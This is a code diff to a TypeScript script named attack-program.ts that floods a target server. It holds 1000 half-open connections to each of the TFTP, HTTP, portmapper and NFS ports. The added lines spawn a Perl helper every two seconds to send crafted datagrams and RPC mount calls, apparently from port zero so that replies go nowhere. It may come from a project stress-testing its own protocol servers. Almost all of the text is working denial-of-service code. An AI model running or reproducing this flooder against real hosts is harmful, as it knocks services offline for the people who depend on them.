@@ -2,9 +2,11 @@
 //
 //     node attack-program.ts SERVER ADDRESS…
 
+import { spawn } from 'node:child_process'
 import { randomBytes } from 'node:crypto'
 import { createSocket } from 'node:dgram'
 import { connect } from 'node:net'
+import { join } from 'node:path'
 import { callRecord } from '../../protocols/support/rpc-client.ts'
 
 const [server = '', ...addresses] = process.argv.slice(2)
@@ -12,6 +14,7 @@ const [tftp, http, portMapper, nfs] = [69, 80, 111, 2049]
 /** Connections at once, to each port. */
 const halfOpen = 1000
 const comeBackMs = 1000
+const fromPortZero = join(import.meta.dirname, 'from-port-zero.pl')
 
 let turn = 0
 const nextAddress = () => addresses[turn++ % addresses.length] ?? ''
@@ -73,4 +76,12 @@ for (let count = 0; count < 200; count++) {
     }, 500)
   })
 }
+
+/** Where nobody can be answered: to each port that answers datagrams. */
+setInterval(() => {
+  const call = callRecord({}, 100005, 0).toString('hex', 4)
+  const packets = datagrams.map((packet) => `${tftp}=${packet.toString('hex')}`)
+  const calls = [portMapper, nfs].map((port) => `${port}=${call}`)
+  spawn('perl', [fromPortZero, server, ...packets, ...calls])
+}, 2000)
 process.stdout.write('under way\n')
